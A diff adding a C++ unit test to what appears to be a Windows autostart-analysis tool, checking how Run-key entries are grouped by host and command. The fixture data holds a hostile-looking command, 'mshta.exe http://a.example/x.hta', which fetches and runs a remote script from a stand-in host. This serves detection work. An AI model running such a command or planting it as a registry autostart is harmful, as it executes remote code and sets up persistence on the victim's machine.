@@ -96,6 +96,24 @@ TEST(StackingStories, WhatStartsAProgramOfWindowsIsToldApartByItsWordsAndNotByIt
         story(ItemKind::task, R"(task|\daily)", R"(\windows\system32\cmd.exe)", "cmd.exe /c ver"), R"(task|\daily)");
 }
 
+TEST(StackingStories, AValueOfTheRegistryIsItsDoorAndItsCommandWhateverItIsCalled)
+{
+    auto const of = [](std::string_view location, std::string_view name, std::string_view command) {
+        Item item;
+        item.kind = ItemKind::autostart;
+        item.location = location;
+        item.key = format("autostart|%user%|software\\run|{}|{}", name, command);
+        item.target = R"(\windows\system32\mshta.exe)";
+        item.command = command;
+        return keys_of(item).story;
+    };
+    auto const first = of("W01", "abc", "mshta.exe http://a.example/x.hta");
+    EXPECT_EQ(first, "autostart W01 mshta.exe http://a.example/x.hta");
+    EXPECT_EQ(of("W01", "other", "mshta.exe http://a.example/x.hta"), first);
+    EXPECT_NE(of("W01", "abc", "mshta.exe http://b.example/y.hta"), first) << "another command is another story";
+    EXPECT_NE(of("W56", "abc", "mshta.exe http://a.example/x.hta"), first) << "another door is, too";
+}
+
 TEST(StackingStories, ANameThatLooksLikeItsOwnBlankIsTakenOutOnce)
 {
     EXPECT_EQ(story(ItemKind::task, R"(task|\name%)", R"(\windows\system32\cmd.exe)", "cmd.exe /c name% name%"),
